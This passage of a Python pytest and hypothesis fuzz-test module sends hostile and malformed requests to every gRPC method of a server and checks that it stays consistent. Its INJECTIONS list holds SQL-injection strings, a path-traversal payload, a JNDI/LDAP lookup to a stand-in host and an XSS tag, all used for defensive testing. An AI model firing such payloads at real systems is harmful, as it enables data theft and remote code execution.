"""Hostile input to every RPC of every service: a typed answer, a live server and nothing half-written."""

from __future__ import annotations

import functools
import hashlib
import itertools
import json
import math
import sqlite3
import uuid
from collections import Counter
from collections.abc import Callable, Collection, Iterator, Mapping, Sequence
from contextlib import closing
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any, cast

import grpc
import pytest
from google.protobuf import duration_pb2, json_format, message_factory, struct_pb2, timestamp_pb2
from google.protobuf.descriptor import Descriptor, FieldDescriptor, MethodDescriptor
from google.protobuf.message import DecodeError, Message
from google.rpc import status_pb2
from grpc_health.v1 import health_pb2, health_pb2_grpc
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from crewdb.api.middleware import access_of
from crewdb.client import Client
from crewdb.clock import format_timestamp
from crewdb.models import TokenPair, UserRole
from crewdb.services.throttle import LoginThrottle, RateLimit
from crewdb.v1 import (
    conversation_service_pb2,
    conversation_service_pb2_grpc,
    options_pb2,
    system_service_pb2,
    system_service_pb2_grpc,
    task_service_pb2,
    task_service_pb2_grpc,
    user_service_pb2,
    user_service_pb2_grpc,
    vector_service_pb2,
    vector_service_pb2_grpc,
)
from tests.conftest import (
    PASSWORD,
    HashEmbedder,
    RunningServer,
    settings_in,
    sign_in,
    start_server,
)
from tests.rpc_errors import DETAILS_KEY, failure

# A failing example may hold a 200 KB string; hypothesis warns before printing it, and should.
pytestmark = pytest.mark.filterwarnings("ignore:Generating overly large repr")

Metadata = tuple[tuple[str, str], ...]

SERVICE_MODULES = (
    conversation_service_pb2,
    user_service_pb2,
    task_service_pb2,
    vector_service_pb2,
    system_service_pb2,
)
METHODS: list[MethodDescriptor] = [
    method
    for module in SERVICE_MODULES
    for service in module.DESCRIPTOR.services_by_name.values()
    for method in service.methods
]
STUBS: dict[str, Callable[[grpc.Channel], object]] = {
    "ConversationService": conversation_service_pb2_grpc.ConversationServiceStub,
    "UserService": user_service_pb2_grpc.UserServiceStub,
    "TaskService": task_service_pb2_grpc.TaskServiceStub,
    "VectorService": vector_service_pb2_grpc.VectorServiceStub,
    "SystemService": system_service_pb2_grpc.SystemServiceStub,
}
# These end or change the caller's own session: each example gets a session of its own (of the
# account `leaver`), so one `all_sessions` logout cannot sign out the rest of the module.
ENDS_SESSIONS = {"crewdb.v1.UserService.Logout", "crewdb.v1.UserService.ChangePassword"}
# ClaimTask with wait_seconds 1 to 30 waits for a task on purpose, like an open stream.
LONG_POLLS = {"crewdb.v1.TaskService.ClaimTask"}

C = grpc.StatusCode
ALLOWED = {
    C.OK,
    C.INVALID_ARGUMENT,
    C.NOT_FOUND,
    C.PERMISSION_DENIED,
    C.UNAUTHENTICATED,
    C.FAILED_PRECONDITION,
    C.ALREADY_EXISTS,
    C.RESOURCE_EXHAUSTED,
    C.OUT_OF_RANGE,
}
CALL_SECONDS = 30.0
# How long a stream (or long poll) may stay open before the test cuts it.
STREAM_SECONDS = 0.5
STREAM_MESSAGES = 3
MAX_REQUEST_BYTES = 4 * 1024 * 1024

HOSTILE = settings(
    max_examples=40,
    deadline=None,
    database=None,
    # A failure in CI prints the @reproduce_failure blob that replays it exactly.
    print_blob=True,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.large_base_example],
)


# --- hostile values ----------------------------------------------------------------------------

ODD_CHARACTERS = (
    "\u200f\u200e\u202e\u202d\u2066\u2067\u2069"  # bidi marks and overrides
    "\u200d\u200c\u200b\u2060\ufeff"  # zero-width joiners, spaces, BOM
    "\u0301\u0336\u20dd\u0489"  # combining marks
    "\x00\x01\x07\x08\x0b\x0c\x1b\x7f\x85\u2028\u2029"  # NUL and other controls, line separators
    "\ufffd\uffff\ufdd0\U0010ffff\U000e0001"  # replacement char and noncharacters
    "\U0001f600\U0001f469\U0001f4bb\U0001f1fa\U0001f1f8\U0001f3fd"  # emoji, flags, skin tone
    "\u0627\u05d0\u4e2d\u0130\u0131\u00df\u1e9e\ufb01"  # RTL scripts, CJK, case-folding traps
    "\n\r\t %_\\'\"`;$*{}[]():.#/?&=@<>|^~,-+"
)
INJECTIONS = (
    "' OR '1'='1",
    "'; DROP TABLE conversations; --",
    '" OR 1=1 --',
    "1; SELECT * FROM users",
    "%",
    "_",
    "%%",
    "\\",
    "\\%",
    "' || (SELECT password_hash FROM users) || '",
    "*",
    "NEAR(a b)",
    '"a" OR "b"',
    "a AND NOT b",
    "^a",
    "text: x",
    "a*",
    '{"$ne": null}',
    "$where",
    "$regex",
    "../../../etc/passwd",
    "${jndi:ldap://example.com/a}",
    "<script>alert(1)</script>",
    "\x00",
    "",
    " ",
    "\t\n\r ",
    "\u200b",
    "null",
    "NaN",
    "-Infinity",
    "1e309",
    "-0",
    "\u202egnp.exe",
    "e\u0301\u0301\u0301\u0301",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
)
odd_characters = st.one_of(st.sampled_from(ODD_CHARACTERS), st.characters(exclude_categories=["Cs"]))
short_text = st.text(odd_characters, max_size=40)


def _repeat(unit: str, times: int) -> str:
    return unit * times


# Up to ~200,000 characters (several hundred KB of UTF-8), cheap to draw.
huge_text = st.builds(_repeat, st.text(odd_characters, min_size=1, max_size=4), st.integers(1_000, 50_000))
hostile_text = st.one_of(
    st.sampled_from(INJECTIONS),
    short_text,
    short_text,
    st.builds(str.__add__, st.sampled_from(INJECTIONS), short_text),
    st.text(odd_characters, min_size=100, max_size=2_000),
    huge_text,
)
struct_keys = st.one_of(
    st.sampled_from(["", "_doc", "#document", "$eq", "$and", "a.b", "a[0]", "k" * 65, "x"]),
    short_text,
)


def _bounds(low: int, high: int) -> st.SearchStrategy[int]:
    """Any integer in [low, high], the bounds and the numbers around 0 drawn often."""
    edges = sorted(n for n in {low, low + 1, -1, 0, 1, 2, high - 1, high} if low <= n <= high)
    return st.one_of(st.sampled_from(edges), st.integers(max(low, -5), 200), st.integers(low, high))


INT32 = _bounds(-(2**31), 2**31 - 1)
INT64 = _bounds(-(2**63), 2**63 - 1)
UINT32 = _bounds(0, 2**32 - 1)
UINT64 = _bounds(0, 2**64 - 1)
doubles = st.one_of(
    st.sampled_from([math.nan, math.inf, -math.inf, -0.0, 5e-324, 1.7976931348623157e308, 2.0**53 + 1]),
    st.floats(0, 1),
    st.floats(),
)
floats32 = st.floats(width=32)

small_scalars = st.one_of(
    st.none(), st.booleans(), doubles, st.integers(-(2**70), 2**70).map(float), short_text
)
json_scalars = small_scalars | huge_text
json_values = st.recursive(
    json_scalars,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(struct_keys, inner, max_size=4),
    max_leaves=20,
)
FILTER_OPERATORS = (
    "$eq", "$ne", "$gt", "$gte", "$lt", "$lte", "$in", "$nin", "$and", "$or",
    "$not", "$contains", "$not_contains", "$regex", "$where", "$exists", "$", "",
)  # fmt: skip
filter_values = st.recursive(
    json_scalars | st.lists(json_scalars, max_size=3),
    lambda inner: (
        st.dictionaries(st.sampled_from(FILTER_OPERATORS) | struct_keys, inner, max_size=3)
        | st.lists(inner, max_size=3)
    ),
    max_leaves=12,
)


def _wide(value: object, keys: int) -> dict[str, object]:
    return {f"k{n}": value for n in range(keys)}


def _deep(levels: int, leaf: object, through_lists: bool) -> dict[str, object]:
    value = leaf
    for level in range(levels):
        value = [value] if through_lists and level % 2 else {"d": value}
    return {"root": value}


def _struct(value: Mapping[str, Any]) -> struct_pb2.Struct:
    struct = struct_pb2.Struct()
    struct.update(value)
    return struct


structs = st.one_of(
    st.dictionaries(struct_keys, json_scalars, max_size=8),
    st.dictionaries(struct_keys, json_values, max_size=5),
    st.dictionaries(st.sampled_from(FILTER_OPERATORS) | struct_keys, filter_values, max_size=4),
    st.builds(_wide, small_scalars, st.integers(30, 5_000)),
    st.builds(_deep, st.integers(1, 120), json_scalars, st.booleans()),
).map(_struct)
MIN_TIMESTAMP, MAX_TIMESTAMP = -62_135_596_800, 253_402_300_799  # 0001-01-01 and 9999-12-31
MAX_DURATION = 315_576_000_000
NANOS = st.one_of(st.sampled_from([0, 999_999_999, 1_000_000_000, -1, -999_999_999]), INT32)
timestamps = st.builds(
    timestamp_pb2.Timestamp,
    seconds=st.one_of(
        st.sampled_from([MIN_TIMESTAMP, MIN_TIMESTAMP - 1, MAX_TIMESTAMP, MAX_TIMESTAMP + 1]), INT64
    ),
    nanos=NANOS,
)
durations = st.builds(
    duration_pb2.Duration,
    seconds=st.one_of(st.sampled_from([MAX_DURATION, MAX_DURATION + 1, -MAX_DURATION - 1]), INT64),
    nanos=NANOS,
)
WELL_KNOWN: dict[str, st.SearchStrategy[Any]] = {
    "google.protobuf.Struct": structs,
    "google.protobuf.Timestamp": timestamps,
    "google.protobuf.Duration": durations,
}

F = FieldDescriptor
SCALARS: dict[int, st.SearchStrategy[Any]] = {
    F.TYPE_INT32: INT32,
    F.TYPE_SINT32: INT32,
    F.TYPE_SFIXED32: INT32,
    F.TYPE_INT64: INT64,
    F.TYPE_SINT64: INT64,
    F.TYPE_SFIXED64: INT64,
    F.TYPE_UINT32: UINT32,
    F.TYPE_FIXED32: UINT32,
    F.TYPE_UINT64: UINT64,
    F.TYPE_FIXED64: UINT64,
    F.TYPE_DOUBLE: doubles,
    F.TYPE_FLOAT: floats32,
    F.TYPE_BOOL: st.booleans(),
    F.TYPE_BYTES: st.binary(max_size=1_000),
}
MAX_NESTING = 4
# A real page token (of another listing) is one value among many: most calls go without one.
RARE_SEEDS = {"page_token"}


# Repeated fields drawn long hold this many bytes at most: past gRPC's 4 MiB request limit, but
# within what a test process can copy around without running out of memory.
MANY_BYTES = 6 * 1024 * 1024


def _many(item: object, times: int) -> list[object]:
    size = item.ByteSize() if isinstance(item, Message) else len(str(item).encode())
    return [item] * max(1, min(times, MANY_BYTES // max(size, 1)))


def field_values(
    field: FieldDescriptor, known: Mapping[str, Sequence[str]], depth: int
) -> st.SearchStrategy[Any]:
    """Values for one field: hostile ones, and the ids of real objects where `known` has some."""
    single: st.SearchStrategy[Any]
    if field.type == F.TYPE_STRING:
        single = hostile_text
        real = known.get(field.name, ())
        if real:
            ids = st.sampled_from(list(real))
            single = st.one_of(ids, ids, st.builds(str.__add__, ids, short_text), hostile_text)
    elif field.enum_type is not None:
        named = st.sampled_from([v.number for v in field.enum_type.values])
        single = st.one_of(named, named, INT32)
    elif field.message_type is not None:
        assert not field.message_type.GetOptions().map_entry, f"{field.full_name}: maps are not generated"
        single = request_messages(field.message_type, known, depth + 1)
    else:
        single = SCALARS[field.type]
    if not field.is_repeated:
        return single
    few = st.lists(single, max_size=5)
    return st.one_of(few, few, st.builds(_many, single, st.integers(90, 1_500)))


def request_messages(
    descriptor: Descriptor, known: Mapping[str, Sequence[str]] = {}, depth: int = 0
) -> st.SearchStrategy[Message]:
    """Messages of `descriptor`'s type, every field left unset or given a hostile value."""
    if descriptor.full_name in WELL_KNOWN:
        return WELL_KNOWN[descriptor.full_name]
    message_class = message_factory.GetMessageClass(descriptor)
    if depth > MAX_NESTING:
        return st.just(message_class())
    values = {field.name: field_values(field, known, depth) for field in descriptor.fields}
    # A field without presence is always drawn (its zero value among the choices, which is the
    # same as unset); one with presence is sometimes left unset.
    required = {
        field.name: values.pop(field.name)
        for field in descriptor.fields
        if not field.has_presence and field.name not in RARE_SEEDS
    }
    return st.fixed_dictionaries(required, optional=values).map(
        lambda chosen: _build(message_class(), chosen)
    )


def _build(message: Message, values: Mapping[str, Any]) -> Message:
    """Sets the fields; CopyFrom, since the constructor would re-parse (and refuse) deep Structs."""
    for name, value in values.items():
        field = message.DESCRIPTOR.fields_by_name[name]
        if field.type != F.TYPE_MESSAGE:
            if field.is_repeated:
                getattr(message, name).extend(value)
            else:
                setattr(message, name, value)
        elif field.is_repeated:
            for item in value:
                getattr(message, name).add().CopyFrom(item)
        else:
            getattr(message, name).CopyFrom(value)
    return message


# --- garbage on the wire -------------------------------------------------------------------------


def _varint(number: int) -> bytes:
    out = bytearray()
    while True:
        byte, number = number & 0x7F, number >> 7
        out.append(byte | (0x80 if number else 0))
        if not number:
            return bytes(out)


TRAP_BODIES = (
    b"",
    b"\x01",
    b"\xff" * 9 + b"\x01",  # the largest 64-bit varint
    b"\xff" * 10 + b"\x01",  # a varint longer than 10 bytes
    b"\x80" * 12,  # a varint that never ends
    b"\xff\xff\xff\xff\x0f",  # a length of 4 GiB
    b"\xff\xff\xff\xff\xff\xff\xff\xff\xff\x01abc",  # a length of 2**64 - 1
    b"\x02\xc3\x28",  # invalid UTF-8
    b"\x04\xed\xa0\x80x",  # a UTF-8 encoded surrogate
    b"\x03\x0a\x01\xff",  # a nested message cut short
    b"\x7f" + b"a" * 10,  # fewer bytes than the length says
)


def _tag(number: int, wire_type: int) -> bytes:
    return _varint(number << 3 | wire_type)


def _truncate(data: bytes, cut: int) -> bytes:
    return data[: cut % len(data)] if data else data


def _flip(data: bytes, flips: list[tuple[int, int]]) -> bytes:
    if not data:
        return data
    changed = bytearray(data)
    for position, byte in flips:
        changed[position % len(changed)] = byte
    return bytes(changed)


def garbage(descriptor: Descriptor) -> st.SearchStrategy[bytes]:
    """Bytes that are not a valid `descriptor` message, or only just are."""
    numbers = [field.number for field in descriptor.fields]
    valid = request_messages(descriptor).map(lambda message: message.SerializeToString())
    return st.one_of(
        st.binary(max_size=512),
        st.builds(
            lambda number, wire, body: _tag(number, wire) + body,
            st.sampled_from([*numbers, 0, 19_000, 2**29 - 1]),
            st.integers(0, 7),
            st.sampled_from(TRAP_BODIES),
        ),
        st.builds(_truncate, valid, st.integers(0, 2**20)),
        st.builds(bytes.__add__, valid, st.binary(min_size=1, max_size=16)),
        st.builds(_flip, valid, st.lists(st.tuples(st.integers(0, 2**20), st.integers(0, 255)), min_size=1)),
    )


# --- the server ------------------------------------------------------------------------------------


# What `World.state` reads: every column a call may write, long texts by their length.
DIGESTS = {
    "conversations": "SELECT id, title, updated_at, message_count, owner_id FROM conversations ORDER BY id",
    "messages": "SELECT count(*), total(length(content)), total(length(metadata)), max(timestamp)"
    " FROM messages",
    "users": "SELECT id, email, username, password_hash, role, is_active, updated_at, last_login_at"
    " FROM users ORDER BY id",
    "tasks": "SELECT id, type, status, priority, data, result, error, metadata, attempts, max_attempts,"
    " run_after, worker_id, lease_expires_at, progress, cancel_requested, dedup_key, updated_at"
    " FROM tasks ORDER BY id",
    "documents": "SELECT owner_id, id, revision, chunk_count, updated_at, title, metadata, length(text)"
    " FROM documents ORDER BY owner_id, id",
    "document_chunks": "SELECT count(*), total(length(text)), total(start_offset), total(end_offset)"
    " FROM document_chunks",
}


@dataclass(frozen=True)
class TaskRef:
    id: str
    type: str
    worker_id: str


def _bearer(token: str) -> Metadata:
    return (("authorization", f"Bearer {token}"),)


@dataclass
class World:
    server: RunningServer
    plain: grpc.Channel
    user: Client
    admin: Client
    worker: Client
    page_token: str

    def caller(self, method: MethodDescriptor) -> tuple[grpc.Channel, Metadata]:
        """The channel (and extra metadata) to call `method` with, as a role allowed to call it."""
        if method.full_name in ENDS_SESSIONS:
            pair = self.server.call(
                self.server.app.accounts.login("leaver", PASSWORD, f"test-{uuid.uuid4().hex}")
            )
            return self.plain, _bearer(pair.access_token)
        access = access_of(method)
        if access == options_pb2.ACCESS_ADMIN:
            return self.admin.channel, ()
        if access == options_pb2.ACCESS_WORKER:
            return self.worker.channel, ()
        return self.user.channel, ()

    def seed(self, service: str) -> dict[str, list[str]]:
        """Real objects for the service's id fields, so hostile calls also reach stored rows."""
        seeds = {"page_token": [self.page_token]}
        if service == "ConversationService":
            conversations = self.user.conversations
            kept = conversations.CreateConversation(
                conversation_service_pb2.CreateConversationRequest(title="s")
            )
            said, *_ = [
                conversations.AddMessage(
                    conversation_service_pb2.AddMessageRequest(
                        conversation_id=kept.id, role=conversation_service_pb2.MESSAGE_ROLE_USER, content=text
                    )
                )
                # A watch from the first replays the other three at once: no wait for live ones.
                for text in ("seed", "second", "third", "fourth")
            ]
            seeds |= {
                "id": [kept.id],
                "conversation_id": [kept.id],
                "after_message_id": [said.id],
                "content": ["Where did we leave off?"],
            }
        elif service == "TaskService":
            kind = f"seed.{uuid.uuid4().hex}"
            tasks = self.user.tasks
            queued = tasks.CreateTask(task_service_pb2.CreateTaskRequest(type="seed", data=_struct({})))
            tasks.CreateTask(task_service_pb2.CreateTaskRequest(type=kind, data=_struct({})))
            claimed = self.worker.tasks.ClaimTask(
                task_service_pb2.ClaimTaskRequest(worker_id=kind, types=[kind])
            )
            seeds |= {
                "id": [queued.id, claimed.task.id],
                "worker_id": [kind],
                "type": [kind],
                "types": [kind],
            }
        elif service == "VectorService":
            document = vector_service_pb2.DocumentInput(id="seed", text="A seed document. " * 200)
            self.user.vectors.AddDocuments(vector_service_pb2.AddDocumentsRequest(documents=[document]))
            seeds |= {"id": ["seed"], "ids": ["seed"], "text": ["Seeds grow. " * 150], "query": ["seeds"]}
        elif service == "UserService":
            name = f"victim-{uuid.uuid4().hex[:8]}"
            victim = self.server.call(
                self.server.app.accounts.register(f"{name}@example.com", name, PASSWORD)
            )
            fresh = f"new-{uuid.uuid4().hex[:8]}"
            seeds |= {
                "user_id": [victim.id],
                "email_or_username": [name],
                "email": [f"{fresh}@example.com"],
                "username": [fresh],
                "password": [PASSWORD, "p\u00e4ss w\u00f6rd \U0001f642\u202e\u200d"],
            }
        return seeds

    # --- fresh objects for the known-good requests that use one up ---

    def new_conversation(self) -> str:
        request = conversation_service_pb2.CreateConversationRequest(title="fresh")
        return self.user.conversations.CreateConversation(request).id

    def new_task(self, *, claimed: bool = False, completed: bool = False) -> TaskRef:
        """One of alice's tasks, of a type of its own; claimed by a worker of its own if asked."""
        kind = f"fresh.{uuid.uuid4().hex}"
        task = self.user.tasks.CreateTask(task_service_pb2.CreateTaskRequest(type=kind, data=_struct({})))
        worker = f"worker-{kind}"
        if claimed or completed:
            claim = task_service_pb2.ClaimTaskRequest(worker_id=worker, types=[kind], lease_seconds=3600)
            assert self.worker.tasks.ClaimTask(claim).task.id == task.id
        if completed:
            self.worker.tasks.CompleteTask(task_service_pb2.CompleteTaskRequest(id=task.id, worker_id=worker))
        return TaskRef(task.id, kind, worker)

    def new_document(self) -> str:
        document = vector_service_pb2.DocumentInput(id=f"fresh-{uuid.uuid4().hex}", text="Short-lived.")
        self.user.vectors.AddDocuments(vector_service_pb2.AddDocumentsRequest(documents=[document]))
        return document.id

    def session(self, username: str) -> TokenPair:
        """A new session of `username`, signed in without gRPC (no throttling of 127.0.0.1)."""
        login = self.server.app.accounts.login(username, PASSWORD, f"test-{uuid.uuid4().hex}")
        pair: TokenPair = self.server.call(login)
        return pair

    def session_id(self, refresh_token: str) -> str:
        """The session (refresh-token family) a refresh token belongs to."""
        digest = hashlib.sha256(refresh_token.encode()).hexdigest()
        with closing(self.read_only()) as conn:
            row = conn.execute(
                "SELECT family_id FROM refresh_tokens WHERE token_hash = ?", (digest,)
            ).fetchone()
        assert row is not None, "crewdb stores refresh tokens some other way"
        return str(row[0])

    @functools.cached_property
    def alice_id(self) -> str:
        return self.user.users.GetMe(user_service_pb2.GetMeRequest()).id

    # --- what is stored ---

    def read_only(self) -> sqlite3.Connection:
        database = Path(self.server.settings.database_path)
        return sqlite3.connect(f"file:{database}?mode=ro", uri=True, timeout=30)

    def state(self, method: MethodDescriptor, since: Mapping[str, object] | None = None) -> dict[str, object]:
        """A digest of everything a call could write: SQLite's tables (sessions aside) and, for
        VectorService, alice's chunk ids in Chroma. Tasks the lease sweep may change meanwhile
        are left out: those whose lease ends within a minute, or as they were `since` (a digest
        taken before)."""
        soon = format_timestamp(datetime.now(UTC) + timedelta(seconds=CALL_SECONDS * 2))
        with closing(self.read_only()) as conn:
            digest: dict[str, object] = {
                table: conn.execute(query).fetchall() for table, query in DIGESTS.items()
            }
            sweepable = (
                since["sweepable"]
                if since is not None
                else frozenset(
                    row[0]
                    for row in conn.execute(
                        "SELECT id FROM tasks WHERE status = 'running' AND lease_expires_at < ?", (soon,)
                    )
                )
            )
        digest["sweepable"] = sweepable
        digest["tasks"] = [
            row
            for row in cast(list[tuple[Any, ...]], digest["tasks"])
            if row[0] not in cast(frozenset[str], sweepable)
        ]
        if method.containing_service.name == "VectorService":
            labels = self.server.call(self.server.app.vectors.chunk_labels(self.alice_id))
            digest["chroma"] = sorted(label[0] for label in labels)
        return digest

    def messages(self, conversation_id: str) -> list[conversation_service_pb2.Message]:
        """Every message of one of alice's conversations, oldest first."""
        found: list[conversation_service_pb2.Message] = []
        token = ""
        while True:
            listed = self.user.conversations.ListMessages(
                conversation_service_pb2.ListMessagesRequest(
                    conversation_id=conversation_id, page_size=200, page_token=token
                )
            )
            found += listed.messages
            token = listed.next_page_token
            if not token:
                return found

    def chunk_ids(self, document_ids: Collection[str]) -> set[str]:
        """Chroma's ids of alice's chunks of those documents."""
        labels = self.server.call(self.server.app.vectors.chunk_labels(self.alice_id))
        return {chunk for chunk, document, _ in labels if document in document_ids}

    def revision(self, document_id: str) -> int:
        with closing(self.read_only()) as conn:
            row = conn.execute(
                "SELECT revision FROM documents WHERE owner_id = ? AND id = ?", (self.alice_id, document_id)
            ).fetchone()
        assert row is not None, f"document {document_id!r} is not in SQLite"
        return int(row[0])

    def document(self, document_id: str) -> tuple[object, ...] | None:
        """What alice's document `document_id` holds now, or None when there is none."""
        try:
            got = self.user.vectors.GetDocument(vector_service_pb2.GetDocumentRequest(id=document_id))
        except grpc.RpcError as error:
            reason = failure(error).reason
        else:
            return (got.text, got.title, got.chunk_count, got.updated_at.ToNanoseconds(), got.metadata)
        assert reason == "DOCUMENT_NOT_FOUND"
        return None

    def assert_sound(self) -> None:
        """The server still answers, and its stores hold only whole objects."""
        self.user.users.GetMe(user_service_pb2.GetMeRequest(), timeout=CALL_SECONDS)
        health = health_pb2_grpc.HealthStub(self.plain)
        served = health.Check(health_pb2.HealthCheckRequest(service=""), timeout=CALL_SECONDS)
        assert served.status == health_pb2.HealthCheckResponse.SERVING
        database = Path(self.server.settings.database_path)
        with sqlite3.connect(f"file:{database}?mode=ro", uri=True, timeout=30) as conn:
            assert conn.execute("PRAGMA integrity_check").fetchall() == [("ok",)]
            assert conn.execute("PRAGMA foreign_key_check").fetchall() == []
            miscounted = conn.execute(
                "SELECT id, message_count, (SELECT count(*) FROM messages m WHERE m.conversation_id = c.id)"
                " FROM conversations c"
                " WHERE message_count != (SELECT count(*) FROM messages m WHERE m.conversation_id = c.id)"
            ).fetchall()
            assert miscounted == [], "conversations whose message_count is not their messages"
            unchunked = conn.execute(
                "SELECT owner_id, id, chunk_count FROM documents d WHERE chunk_count != (SELECT count(*)"
                " FROM document_chunks k WHERE k.owner_id = d.owner_id AND k.document_id = d.id)"
            ).fetchall()
            assert unchunked == [], "documents whose chunk_count is not their chunk rows"
            chunks = dict(
                conn.execute("SELECT owner_id, sum(chunk_count) FROM documents GROUP BY owner_id").fetchall()
            )
            owners = [row[0] for row in conn.execute("SELECT id FROM users")]
            for column, table in [
                ("metadata", "messages"),
                ("data", "tasks"),
                ("result", "tasks"),
                ("metadata", "tasks"),
                ("metadata", "documents"),
            ]:
                for (stored,) in conn.execute(f"SELECT {column} FROM {table} WHERE {column} IS NOT NULL"):  # noqa: S608 - fixed names
                    json.loads(stored, parse_constant=_refuse_constant)
        for owner in owners:
            stored = int(self.server.call(self.server.app.vectors.count(owner)))
            assert stored == chunks.get(owner, 0), f"owner {owner}: {stored} chunks in Chroma"


def _refuse_constant(name: str) -> object:
    raise AssertionError(f"{name} stored in a JSON column")


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    """One server for the module, so hypothesis examples share it; signed-in clients of each role."""
    # Below the production floor of 10: many examples sign in, and hashing is not under test.
    config = settings_in(tmp_path_factory.mktemp("hostile")).replace(bcrypt_rounds=4)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("crewdb.server.build_embedder", lambda _settings: HashEmbedder())
        running, stop = start_server(config)
    clients: list[Client] = []
    try:
        # Every gRPC sign-in happens now: hostile Login calls soon get 127.0.0.1 throttled.
        clients += [sign_in(running, name, role) for name, role in _ROLES]
        user, admin, worker = clients
        running.call(running.app.accounts.register("leaver@example.com", "leaver", PASSWORD))
        for title in ("first", "second"):
            user.conversations.CreateConversation(
                conversation_service_pb2.CreateConversationRequest(title=title)
            )
        listed = user.conversations.ListConversations(
            conversation_service_pb2.ListConversationsRequest(page_size=1)
        )
        with grpc.insecure_channel(running.address) as plain:
            yield World(running, plain, user, admin, worker, listed.next_page_token)
    finally:
        for client in clients:
            client.close()
        stop()


_ROLES = (("alice", UserRole.USER), ("root", UserRole.ADMIN), ("runner", UserRole.WORKER))


# --- calls and answers -----------------------------------------------------------------------------


def _cut(method: MethodDescriptor, request: Message | bytes) -> bool:
    """Whether the call may legitimately still be open when the test stops waiting."""
    if method.server_streaming:
        return True
    return (
        method.full_name in LONG_POLLS
        and isinstance(request, task_service_pb2.ClaimTaskRequest)
        and 0 < request.wait_seconds <= 30
    )


def _finish(call: Any, streaming: bool, timeout: float, request: object, metadata: Metadata) -> object:
    """The response of a unary call; of a stream, None (its first messages are read, then it is cut)."""
    if not streaming:
        return call(request, timeout=timeout, metadata=metadata)
    responses = call(request, timeout=timeout, metadata=metadata)
    for _ in itertools.islice(responses, STREAM_MESSAGES):
        pass
    responses.cancel()
    return None


def call_typed(
    world: World, method: MethodDescriptor, request: Message, via: tuple[grpc.Channel, Metadata] | None = None
) -> tuple[Any, grpc.RpcError | None]:
    """Calls `method` through its generated stub (on `via`, or as `world.caller` says): (its
    response, None) or (None, the error it ended with)."""
    channel, metadata = via or world.caller(method)
    stub = STUBS[method.containing_service.name](channel)
    timeout = STREAM_SECONDS if _cut(method, request) else CALL_SECONDS
    try:
        return _finish(getattr(stub, method.name), method.server_streaming, timeout, request, metadata), None
    except grpc.RpcError as error:
        return None, error


def call_raw(world: World, method: MethodDescriptor, payload: bytes) -> grpc.RpcError | None:
    """Sends `payload` as the request bytes of `method`, with a valid token."""
    channel, metadata = world.caller(method)
    path = f"/{method.containing_service.full_name}/{method.name}"
    call: Any = (
        channel.unary_stream(path, request_serializer=None, response_deserializer=None)
        if method.server_streaming
        else channel.unary_unary(path, request_serializer=None, response_deserializer=None)
    )
    timeout = STREAM_SECONDS if method.server_streaming or method.full_name in LONG_POLLS else CALL_SECONDS
    try:
        _finish(call, method.server_streaming, timeout, payload, metadata)
    except grpc.RpcError as error:
        return error
    return None


def outcome(method: MethodDescriptor, request: Message | bytes, error: grpc.RpcError | None) -> str:
    """`accepted`, `refused`, or `cut`: a stream or long poll still open when the test stopped it."""
    if error is None:
        return "accepted"
    if isinstance(error, grpc.Call) and error.code() == C.DEADLINE_EXCEEDED and _cut(method, request):
        return "cut"
    return "refused"


def _rich(error: grpc.Call) -> bool:
    """Whether crewdb's google.rpc.Status reached the client and agrees with the call's code."""
    raw = dict(error.trailing_metadata() or ()).get(DETAILS_KEY)
    return isinstance(raw, bytes) and status_pb2.Status.FromString(raw).code == error.code().value[0]


def _within_depth_limit(request: Message) -> bool:
    """Whether the request's bytes decode. A typed request fails to only when nested past
    protobuf's depth limit (100 messages: a Struct some 33 levels deep): the one case where
    MALFORMED_REQUEST is the right answer to it."""
    try:
        type(request).FromString(request.SerializeToString())
    except DecodeError:
        return False
    return True


def _top_field(path: str) -> str:
    return path.split(".", 1)[0].split("[", 1)[0]


def assert_typed_answer(
    method: MethodDescriptor, request: Message | bytes, error: grpc.RpcError | None
) -> None:
    """An allowed status; INVALID_ARGUMENT says why and, for a decoded request, names real fields."""
    if error is None:
        return
    assert isinstance(error, grpc.Call)
    code = error.code()
    allowed = set(ALLOWED)
    if _cut(method, request) or (method.full_name in LONG_POLLS and isinstance(request, bytes)):
        allowed.add(C.DEADLINE_EXCEEDED)
    assert code in allowed, f"{method.full_name} answered {code.name}: {error.details()}"
    if code == C.DEADLINE_EXCEEDED:
        return  # our own cut
    if code == C.RESOURCE_EXHAUSTED and not _rich(error):
        # Only gRPC's request size limit may answer without crewdb's rich status.
        size = len(request) if isinstance(request, bytes) else request.ByteSize()
        assert size > MAX_REQUEST_BYTES, f"{method.full_name} {size}-byte request: {error.details()}"
        return
    problem = failure(error)
    assert problem.reason, f"{method.full_name} {code.name} without an ErrorInfo reason"
    if code != C.INVALID_ARGUMENT:
        return
    if problem.reason == "MALFORMED_REQUEST":
        assert isinstance(request, bytes) or not _within_depth_limit(request), (
            f"{method.full_name}: MALFORMED_REQUEST for a request within the depth limit: {problem.message}"
        )
        return
    assert problem.fields, f"{method.full_name} INVALID_ARGUMENT ({problem.message}) names no field"
    names = {field.name for field in method.input_type.fields}
    for path in problem.fields:
        assert _top_field(path) in names, f"{method.full_name} blames {path!r}, not a request field"


def _method_id(method: MethodDescriptor) -> str:
    return f"{method.containing_service.name}.{method.name}"


# --- known-good requests, one field made hostile ---------------------------------------------------
# Requests hostile in every field are nearly all refused by validation, which leaves the paths
# that write barely tried. So two examples in three start from a request known to succeed and
# replace one field (at any depth) with a hostile value: many of those are accepted, and what
# they stored is read back.

Seeds = Mapping[str, Sequence[str]]
Base = Callable[[World, Seeds], Message]

cpb, upb, tpb, vpb, spb = (
    conversation_service_pb2,
    user_service_pb2,
    task_service_pb2,
    vector_service_pb2,
    system_service_pb2,
)
NEW_PASSWORD = "a different passphrase entirely"  # noqa: S105 - a test fixture
BREAD = "Bread needs flour, water, salt and time; the oven does the rest. " * 30


def _register(world: World, seeds: Seeds) -> Message:
    name = f"fresh{uuid.uuid4().hex[:12]}"
    return upb.RegisterRequest(email=f"{name}@example.com", username=name, password=PASSWORD)


def _claim(world: World, seeds: Seeds) -> Message:
    task = world.new_task()
